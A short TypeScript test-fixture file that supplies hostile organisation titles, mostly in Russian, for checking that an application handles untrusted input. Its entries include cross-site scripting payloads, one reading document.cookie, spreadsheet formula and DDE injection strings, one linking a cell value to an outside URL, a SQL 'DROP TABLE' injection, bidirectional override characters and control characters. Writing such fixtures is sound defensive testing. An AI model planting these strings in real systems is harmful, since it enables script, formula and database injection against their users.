const TITLES: readonly string[] = [
  '<script>alert(document.cookie)</script> Школа № 1',
  '=HYPERLINK("https://example.invalid/?x="&A1;"Отчёт")',
  'Детский сад \u202eкинжохи\u202c «Радуга»\u200b',
  '"><img src=x onerror=alert(1)> Дом культуры',
  `Муниципальное ${'очень '.repeat(60)}длинное название`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'; DROP TABLE page; -- Библиотека",
  '+7 (8442) 00-00-00; приёмная\tадминистрации\u0000\u0007',
];

/** A community's title as only a stranger would write it: markup, formulas, bidirectional marks, excessive length. */
export function hostileTitle(n: number): string {
  return TITLES[Math.floor(n) % TITLES.length] ?? '';
}
